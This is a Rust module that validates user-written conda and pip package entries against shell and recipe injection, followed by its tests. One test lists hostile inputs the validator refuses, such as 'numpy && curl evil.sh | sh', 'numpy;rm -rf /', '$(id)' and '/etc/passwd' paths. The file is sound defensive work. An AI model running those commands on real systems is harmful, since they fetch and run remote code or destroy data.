//! One package entry as a user writes it: a conda MatchSpec or `pip:` plus a PEP 508 requirement.
//!
//! Every entry passes [`PackageEntry::from_str`] before it is used anywhere. The checks here are
//! the gate that keeps user text out of recipes and shells: an entry is refused unless it is
//! plain ASCII without shell metacharacters, and it is re-rendered from its parsed parts, so the
//! text that reaches a recipe is kiln's, never the user's.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use super::conda::CondaSpec;
use super::pip::PipSpec;

/// The longest entry kiln accepts, in bytes.
pub const MAX_ENTRY_LEN: usize = 256;

/// A validated package entry.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub enum PackageEntry {
    /// A conda package, e.g. `bioconda::samtools=1.21`.
    Conda(CondaSpec),
    /// A pip package, e.g. `pip:requests==2.32.3`.
    Pip(PipSpec),
}

impl PackageEntry {
    /// The package name, normalized: lowercase for conda, PEP 503 for pip.
    pub fn name(&self) -> &str {
        match self {
            PackageEntry::Conda(spec) => spec.name(),
            PackageEntry::Pip(spec) => spec.name(),
        }
    }

    /// The version this entry pins exactly, if it pins one (`=1.21`, `==1.21`).
    pub fn pinned_version(&self) -> Option<&str> {
        match self {
            PackageEntry::Conda(spec) => spec.pinned_version(),
            PackageEntry::Pip(spec) => spec.pinned_version(),
        }
    }
}

impl fmt::Display for PackageEntry {
    /// The canonical text: what recipes, names and the store see.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PackageEntry::Conda(spec) => spec.fmt(f),
            PackageEntry::Pip(spec) => write!(f, "pip:{spec}"),
        }
    }
}

/// Why an entry was refused. Each message names the entry.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[expect(
    missing_docs,
    reason = "each variant's fields are what its message names"
)]
pub enum EntryError {
    /// The entry is the empty string.
    #[error("an empty package entry was given")]
    Empty,
    /// The entry is longer than [`MAX_ENTRY_LEN`].
    #[error("package entry `{entry}` is {len} bytes long; the limit is {MAX_ENTRY_LEN}")]
    TooLong { entry: String, len: usize },
    /// The entry fits [`MAX_ENTRY_LEN`], but its canonical form does not.
    #[error(
        "package entry `{entry}` is {len} bytes long with its versions written in full \
         (`1-2` as `1.post2`); the limit is {MAX_ENTRY_LEN}"
    )]
    CanonicalTooLong { entry: String, len: usize },
    /// The entry holds a character that could change the meaning of a recipe or a shell line.
    #[error("package entry `{entry}` contains {what}, which is not allowed in a package entry")]
    ForbiddenCharacter { entry: String, what: String },
    /// The entry looks like a command-line option.
    #[error("package entry `{entry}` starts with `-`; a package name cannot be an option")]
    OptionLike { entry: String },
    /// `pip::name`, a common slip for `pip:name`.
    #[error("package entry `{entry}` uses `pip::`; write `pip:{rest}` for a pip package")]
    PipDoubleColon { entry: String, rest: String },
    /// The entry is not a conda spec kiln understands.
    #[error("package entry `{entry}` is not a valid conda package spec: {reason}")]
    InvalidConda { entry: String, reason: String },
    /// The entry is not a PEP 508 requirement.
    #[error("package entry `{entry}` is not a valid pip requirement: {reason}")]
    InvalidPip { entry: String, reason: String },
    /// The entry installs from a URL instead of a package index.
    #[error(
        "package entry `{entry}` names a URL; kiln builds from package names and versions only"
    )]
    Url { entry: String },
}

impl FromStr for PackageEntry {
    type Err = EntryError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        if s.is_empty() {
            return Err(EntryError::Empty);
        }
        if s.len() > MAX_ENTRY_LEN {
            return Err(EntryError::TooLong {
                entry: printable(s),
                len: s.len(),
            });
        }
        check_characters(s)?;
        if s.starts_with('-') {
            return Err(EntryError::OptionLike {
                entry: printable(s),
            });
        }
        // In any casing: channel names are lowercased, so `Pip::x` would become `pip::x`.
        if s.get(..5)
            .is_some_and(|prefix| prefix.eq_ignore_ascii_case("pip::"))
        {
            return Err(EntryError::PipDoubleColon {
                entry: s.to_owned(),
                rest: s[5..].to_owned(),
            });
        }
        let entry =
            match s.strip_prefix("pip:") {
                Some(requirement) => PipSpec::parse(requirement).map(PackageEntry::Pip).map_err(
                    |reason| match reason {
                        super::pip::PipParseError::Url => EntryError::Url {
                            entry: s.to_owned(),
                        },
                        super::pip::PipParseError::Invalid(reason) => EntryError::InvalidPip {
                            entry: s.to_owned(),
                            reason,
                        },
                    },
                ),
                None => CondaSpec::parse(s)
                    .map(PackageEntry::Conda)
                    .map_err(|reason| EntryError::InvalidConda {
                        entry: s.to_owned(),
                        reason,
                    }),
            }?;
        // Normalizing can lengthen an entry (`==1-2` is `==1.post2`); the canonical form is
        // what is stored and parsed again, so it must fit the limit too.
        let len = entry.to_string().len();
        if len > MAX_ENTRY_LEN {
            return Err(EntryError::CanonicalTooLong {
                entry: printable(s),
                len,
            });
        }
        Ok(entry)
    }
}

impl TryFrom<String> for PackageEntry {
    type Error = EntryError;

    fn try_from(value: String) -> Result<Self, Self::Error> {
        value.parse()
    }
}

impl From<PackageEntry> for String {
    fn from(entry: PackageEntry) -> Self {
        entry.to_string()
    }
}

/// Refuses characters that have no place in a package entry anywhere in it.
///
/// Whitespace, quotes and `;` are refused here too, except after the `;` that starts the
/// environment marker of a pip requirement, where PEP 508 needs them; the marker is then parsed
/// and checked again by [`PipSpec`].
fn check_characters(entry: &str) -> Result<(), EntryError> {
    let marker_start = entry
        .strip_prefix("pip:")
        .and_then(|requirement| requirement.find(';'))
        .map(|at| at + "pip:".len());
    for (at, ch) in entry.char_indices() {
        let in_marker = marker_start.is_some_and(|start| at >= start);
        let refused = match ch {
            _ if !ch.is_ascii() => Some(format!("the non-ASCII character {ch:?}")),
            _ if ch.is_ascii_control() => Some(format!("the control character {ch:?}")),
            '`' | '$' | '|' | '&' | '\\' | '{' | '}' | '#' | '?' | '^' | '%' | '@' => {
                Some(format!("`{ch}`"))
            }
            ' ' | '"' | '\'' | ';' | '(' | ')' if !in_marker => Some(match ch {
                ' ' => "whitespace".to_owned(),
                _ => format!("`{ch}`"),
            }),
            _ => None,
        };
        if let Some(what) = refused {
            return Err(EntryError::ForbiddenCharacter {
                entry: printable(entry),
                what,
            });
        }
    }
    Ok(())
}

/// A form of user text that is safe to print in one line of an error message: control
/// characters escaped, long text cut.
pub(crate) fn printable(text: &str) -> String {
    const SHOWN: usize = 64;
    let escaped: String = text.escape_debug().collect();
    match escaped.char_indices().nth(SHOWN) {
        Some((cut, _)) => format!("{}…", &escaped[..cut]),
        None => escaped,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(entry: &str) -> EntryError {
        match entry.parse::<PackageEntry>() {
            Ok(parsed) => panic!("{entry:?} was accepted as {parsed}"),
            Err(err) => err,
        }
    }

    /// Inputs that must never reach a recipe or a shell.
    #[test]
    fn hostile_inputs_are_refused() {
        let long_name = "a".repeat(300);
        let long_pip = format!("pip:{}", "b".repeat(300));
        let hostile = [
            "",
            " ",
            "numpy;rm -rf /",
            "numpy; rm -rf /",
            "numpy && curl evil.sh | sh",
            "numpy|sh",
            "numpy`id`",
            "numpy$(id)",
            "$(id)",
            "${HOME}",
            "numpy\nRUN rm -rf /",
            "numpy\r\nFROM evil",
            "numpy\0",
            "numpy\t1.0",
            "numpy 1.0",
            "'numpy'",
            "\"numpy\"",
            "numpy'",
            "numpy>1.0<2.0>",
            "numpy>/etc/passwd",
            "<numpy",
            ">numpy",
            "numpy=1.0;",
            "--index-url=http://evil",
            "-e",
            "--flag",
            "-rrequirements.txt",
            "../../etc/passwd",
            "/etc/passwd",
            "./local",
            "file:///etc/passwd",
            "https://evil.example/pkg.tar.bz2",
            "samtools=1.21 bcftools",
            "ѕamtools",         // Cyrillic s
            "samtools\u{200b}", // zero-width space
            "ｓａｍｔｏｏｌｓ", // full-width
            "samtoolś=1.0",
            "numpy=1.0\u{2028}",
            &long_name,
            &long_pip,
            "pip:",
            "pip::requests",
            "pip:requests @ https://evil.example/r.whl",
            "pip:requests@https://evil.example/r.whl",
            "pip:git+https://github.com/psf/requests",
            "pip:requests==2.0;$(id)",
            "pip:requests==2.0; python_version > \"$(id)\"",
            "pip:requests==2.0; python_version > '`id`'",
            "pip:requests==2.0 ; os_name == 'a\\nb'",
            "pip:-r requirements.txt",
            "pip:--extra-index-url=http://evil",
            "pip:requests;",
            "pip:requests==",
            "pip:../requests",
            "pip:requests[socks;id]",
            "bioconda::",
            "::samtools",
            "http://evil::samtools",
            "bio conda::samtools",
            "samtools==",
            "samtools=1.21=",
            "samtools=1.21=h12 3",
            "samtools=1.21=build=extra",
            "samtools[version=1.0]",
            "samtools{1}",
            "samtools#comment",
            "samtools=1.0%",
            "sam*tools",
            "UPPER CASE",
            "numpy>=1.0,",
            "numpy>=",
            "numpy!",
        ];
        assert!(hostile.len() >= 40);
        for entry in hostile {
            let err = refused(entry);
            if !entry.is_empty() {
                let message = err.to_string();
                let shown: String = printable(entry).chars().take(20).collect();
                assert!(
                    message.contains(&shown),
                    "message {message:?} does not name the entry {entry:?}"
                );
            }
        }
    }

    #[test]
    fn messages_are_sentences_naming_the_entry() {
        assert_eq!(
            refused("numpy;rm -rf /").to_string(),
            "package entry `numpy;rm -rf /` contains `;`, which is not allowed in a package entry"
        );
        assert_eq!(
            refused("pip::requests").to_string(),
            "package entry `pip::requests` uses `pip::`; write `pip:requests` for a pip package"
        );
        assert_eq!(
            refused("numpy\nRUN x").to_string(),
            "package entry `numpy\\nRUN x` contains the control character '\\n', which is not allowed in a package entry"
        );
        assert_eq!(
            refused("--flag").to_string(),
            "package entry `--flag` starts with `-`; a package name cannot be an option"
        );
        assert_eq!(
            refused("pip:requests@https://x.example/r.whl").to_string(),
            "package entry `pip:requests@https://x.example/r.whl` contains `@`, which is not allowed in a package entry"
        );
    }

    #[test]
    fn a_channel_called_pip_in_any_casing_is_the_pip_slip() {
        // Found by the `entry` fuzz target: `Pip::x` was a conda entry whose canonical form,
        // `pip::x`, was then refused.
        let message = refused("Pip::smt=mt=.12*1*G*").to_string();
        assert!(
            message.contains("uses `pip::`; write `pip:smt=mt=.12*1*G*`"),
            "{message}"
        );
    }

    #[test]
    fn pip_names_with_a_trailing_dot_are_refused_not_panicked_on() {
        // pep508_rs 0.9.2 panics on this one; found by the `entry` fuzz target.
        for entry in [
            "pip:FoesBar.b.=1za0",
            "pip:foo.==1",
            "pip:foo-",
            "pip:_foo",
            "pip:requests[sock.,ssecuriTy]==2.32",
        ] {
            let message = refused(entry).to_string();
            assert!(
                message.contains("must start and end with a letter or digit"),
                "{message}"
            );
        }
        assert!("pip:foo.bar==1".parse::<PackageEntry>().is_ok());
        assert!(
            "pip:requests[socks,security]==2.32"
                .parse::<PackageEntry>()
                .is_ok()
        );
    }

    #[test]
    fn entries_whose_canonical_form_is_too_long_are_refused() {
        // Found by the `entry` fuzz target: 247 bytes, whose canonical form (267 bytes) was
        // then refused when parsed again.
        let found = "pip:e==34,==22-110000000,==22+11650-110000000,==22650-17,==220000074,\
                     ==22-00760000074,==22+02650-17,==220000074,==22-7657,==22+o6500000074,\
                     ==22+007650-110000000,==22650-17,==220000074,==22-00760000074,\
                     ==22+02650-17,==220000074,==22-7657,==22+o6500";
        assert_eq!(found.len(), 247);
        let versions = vec!["1-2"; 40].join(",==");
        for entry in [found.to_owned(), format!("pip:e=={versions}")] {
            assert!(entry.len() <= MAX_ENTRY_LEN);
            let message = refused(&entry).to_string();
            assert!(
                message.contains("bytes long with its versions written in full")
                    && message.contains("the limit is 256"),
                "{message}"
            );
        }
        // Entries that fit written in full are accepted and parse back.
        let fits = format!("pip:e=={}", vec!["1-2"; 20].join(",=="));
        let entry: PackageEntry = fits.parse().expect("fits");
        assert!(entry.to_string().len() <= MAX_ENTRY_LEN);
        assert_eq!(entry.to_string().parse::<PackageEntry>(), Ok(entry));
    }

    #[test]
    fn markers_get_a_canonical_form_that_parses_to_itself() {
        // Found by the `entry` fuzz target: the marker, which never holds, was written as
        // `python_version < '0'`, which parses to `python_full_version < '0'`.
        let entry: PackageEntry = r#"pip:requests==1.32; python_version == "2.2.40""#
            .parse()
            .expect("a valid requirement");
        let canonical = entry.to_string();
        assert_eq!(canonical, "pip:requests==1.32; python_full_version < '0'");
        let again: PackageEntry = canonical.parse().expect("the canonical form parses");
        assert_eq!(again, entry);
        assert_eq!(again.to_string(), canonical);
    }

    #[test]
    fn long_entries_are_cut_in_messages() {
        let message = refused(&"a".repeat(300)).to_string();
        assert!(message.contains("is 300 bytes long; the limit is 256"));
        assert!(message.len() < 160, "{message}");
    }

    #[test]
    fn accepted_forms() {
        let accepted = [
            ("samtools", "samtools"),
            ("samtools=1.21", "samtools=1.21"),
            ("samtools==1.21", "samtools==1.21"),
            ("samtools>=1.2,<2", "samtools>=1.2,<2"),
            ("samtools=1.21=h1234_0", "samtools=1.21=h1234_0"),
            ("bioconda::samtools=1.21", "bioconda::samtools=1.21"),
            ("BioConda::SamTools=1.21", "bioconda::samtools=1.21"),
            ("samtools=1.21.*", "samtools=1.21.*"),
            ("python=3.12", "python=3.12"),
            (
                "conda-forge/label/dev::numpy=2.0",
                "conda-forge/label/dev::numpy=2.0",
            ),
            ("r-base>=4.3", "r-base>=4.3"),
            ("_libgcc_mutex", "_libgcc_mutex"),
            ("pip:requests==2.32.3", "pip:requests==2.32.3"),
            ("pip:Requests==2.32.3", "pip:requests==2.32.3"),
            ("pip:Foo_Bar.baz>=1.0", "pip:foo-bar-baz>=1.0"),
            (
                "pip:requests[socks,security]==2.32.3",
                "pip:requests[security,socks]==2.32.3",
            ),
            ("pip:numpy>=1.26,<2", "pip:numpy>=1.26,<2"),
            ("pip:black", "pip:black"),
            (
                "pip:requests==2.32.3; python_version >= \"3.8\"",
                "pip:requests==2.32.3; python_full_version >= '3.8'",
            ),
        ];
        for (input, canonical) in accepted {
            let entry: PackageEntry = input
                .parse()
                .unwrap_or_else(|err| panic!("{input:?} was refused: {err}"));
            assert_eq!(entry.to_string(), canonical, "{input:?}");
            let again: PackageEntry = canonical.parse().expect("canonical form parses");
            assert_eq!(again, entry, "canonical form of {input:?} round-trips");
        }
    }

    #[test]
    fn pinned_versions() {
        let pinned = |entry: &str| {
            entry
                .parse::<PackageEntry>()
                .expect("valid entry")
                .pinned_version()
                .map(str::to_owned)
        };
        assert_eq!(pinned("samtools=1.21"), Some("1.21".into()));
        assert_eq!(pinned("samtools==1.21"), Some("1.21".into()));
        assert_eq!(pinned("samtools=1.21=h1234_0"), Some("1.21".into()));
        assert_eq!(pinned("samtools>=1.21"), None);
        assert_eq!(pinned("samtools"), None);
        assert_eq!(pinned("pip:requests==2.32.3"), Some("2.32.3".into()));
        assert_eq!(pinned("pip:requests>=2"), None);
    }

    #[test]
    fn serde_goes_through_validation() {
        let ok: PackageEntry = serde_json::from_str("\"bioconda::samtools=1.21\"").expect("valid");
        assert_eq!(ok.to_string(), "bioconda::samtools=1.21");
        let err = serde_json::from_str::<PackageEntry>("\"numpy;rm -rf /\"").unwrap_err();
        assert!(err.to_string().contains("numpy;rm -rf /"), "{err}");
    }

    proptest::proptest! {
        /// Whatever a user types, an accepted entry's canonical text is safe to quote in a
        /// shell word or a YAML scalar, and parses back to the same entry.
        #[test]
        fn accepted_entries_are_safe_and_stable(input in "(pip:)?[ -~\\n\\t\u{80}-\u{10ffff}]{0,40}") {
            if let Ok(entry) = input.parse::<PackageEntry>() {
                let canonical = entry.to_string();
                proptest::prop_assert!(canonical.is_ascii());
                proptest::prop_assert!(!canonical.contains(['"', '`', '$', '\\', '|', '&', '\n', '\r', '\t']));
                proptest::prop_assert_eq!(canonical.parse::<PackageEntry>(), Ok(entry));
            }
        }

        /// Entries built from the grammar's own alphabet are accepted whenever rattler is.
        #[test]
        fn conda_like_entries_round_trip(input in "[a-z][a-z0-9_-]{0,10}(=[0-9]{1,2}(\\.[0-9]{1,2}){0,2})?") {
            let entry: PackageEntry = input.parse().map_err(|err: EntryError| proptest::test_runner::TestCaseError::fail(err.to_string()))?;
            proptest::prop_assert_eq!(entry.to_string(), input);
        }
    }
}
